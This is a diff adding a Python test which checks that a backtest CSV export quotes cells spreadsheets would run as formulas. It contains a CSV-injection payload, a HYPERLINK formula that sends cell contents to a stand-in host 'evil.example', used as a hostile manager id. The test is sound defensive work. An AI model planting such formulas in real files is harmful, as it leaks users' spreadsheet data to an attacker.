@@ -223,3 +223,23 @@ def test_a_step_longer_than_a_night_says_what_it_does_to_daily_limits(tmp_path: 
             "2026-03-01", "--step", "1w", "-f", "json")  # fmt: skip
     assert r.returncode == 0
     assert "note: r.yaml: each --step 1w is one night's run: caps[0] (per 1d, rolling)" in r.stderr
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
+    """A manager id `=HYPERLINK("http://evil.example/?"&A1,"m2")` from the CRM was a live formula in
+    backtest.csv once an analyst opened it in Excel or LibreOffice."""
+    import csv
+    import io
+
+    from retainer.backtest import csv_text, write_csv
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"m2")'
+    store = retainer.open_store("memory://")
+    store.add(managers=[{"id": evil}, {"id": "@m2"}, {"id": "-m3"}, {"id": "+m4"}],
+              clients=[{"id": f"c{n}", "manager_id": m, "created_at": "2025-01-01"}
+                       for n, m in enumerate([evil, "@m2", "-m3", "+m4"])])  # fmt: skip
+    result = backtest(retainer.load_rules(FR), store, "2026-03-01", "2026-03-01")
+    write_csv([result], tmp_path / "backtest.csv")
+    for text in (csv_text([result]), (tmp_path / "backtest.csv").read_text(encoding="utf-8")):
+        managers = sorted({r["manager"] for r in csv.DictReader(io.StringIO(text))})
+        assert managers == ["'+m4", "'-m3", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"m2\")", "'@m2"]
